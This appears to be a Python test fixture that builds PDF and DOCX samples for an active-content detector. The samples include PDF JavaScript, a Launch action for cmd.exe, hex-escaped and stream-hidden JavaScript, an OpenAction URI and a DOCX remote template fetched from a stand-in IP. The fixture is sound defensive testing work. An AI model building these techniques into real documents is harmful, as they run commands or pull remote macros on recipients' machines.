"""Evidence files with active content (issue 12): valid PDFs and DOCX the store accepts but the reviewer must be
warned about, and look-alikes that are harmless. Built in memory, like the rest of the corpus.

Each case is (file name, bytes, expected finding codes of ``storage.active_content``).
"""

from __future__ import annotations

import io
import zipfile
import zlib


def pdf(*objects: bytes) -> bytes:
    """A small PDF with the given object bodies (numbered from 1), a catalog first."""
    body = b"%PDF-1.7\n"
    for number, content in enumerate(objects, start=1):
        body += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    return body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def flate_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    return (
        f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>\nstream\n".encode()
        + (packed + b"\nendstream")
    )


def docx(rels: bytes) -> bytes:
    """A minimal DOCX whose settings relationships are ``rels``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", "<w:document><w:body><w:p>SK</w:p></w:body></w:document>")
        archive.writestr("word/_rels/settings.xml.rels", rels)
    return buffer.getvalue()


REMOTE_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://203.0.113.7/template.dotm" TargetMode="External"/></Relationships>'
)
LOCAL_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="Normal.dotm"/></Relationships>'
)
EXTERNAL_LINK = (
    b'<?xml version="1.0"?><Relationships><Relationship Id="rId9" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
    b'Target="https://jdih.malutprov.go.id/" TargetMode="External"/></Relationships>'
)

ACTIVE: list[tuple[str, bytes, tuple[str, ...]]] = [
    ("js.pdf", pdf(b"<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
     ("pdf_javascript",)),
    ("open-action.pdf", pdf(b"<< /Type /Catalog /OpenAction << /S /URI /URI (http://203.0.113.7/) >> >>"),
     ("pdf_open_action",)),
    ("launch.pdf", pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>", b"<< /S /Launch /F (cmd.exe) >>"),
     ("pdf_launch", "pdf_open_action")),
    ("escaped.pdf", pdf(b"<< /Type /Catalog /Names << /J#61vaScript 2 0 R >> >>", b"<< /S /J#53 (x) >>"),
     ("pdf_javascript",)),
    ("hidden-in-stream.pdf", pdf(b"<< /Type /Catalog >>", flate_stream(b"2 0 << /S /JavaScript /JS (x) >>")),
     ("pdf_javascript",)),
    ("remote-template.docx", docx(REMOTE_TEMPLATE), ("docx_remote_part",)),
]  # fmt: skip

HARMLESS: list[tuple[str, bytes, tuple[str, ...]]] = [
    ("plain.pdf", pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"), ()),
    ("words.pdf", pdf(b"<< /Type /Catalog >>", b"<< /Length 30 >>\nstream\n(JavaScript Launch) Tj\nendstream"), ()),
    ("local-template.docx", docx(LOCAL_TEMPLATE), ()),
    ("hyperlink.docx", docx(EXTERNAL_LINK), ()),
]  # fmt: skip
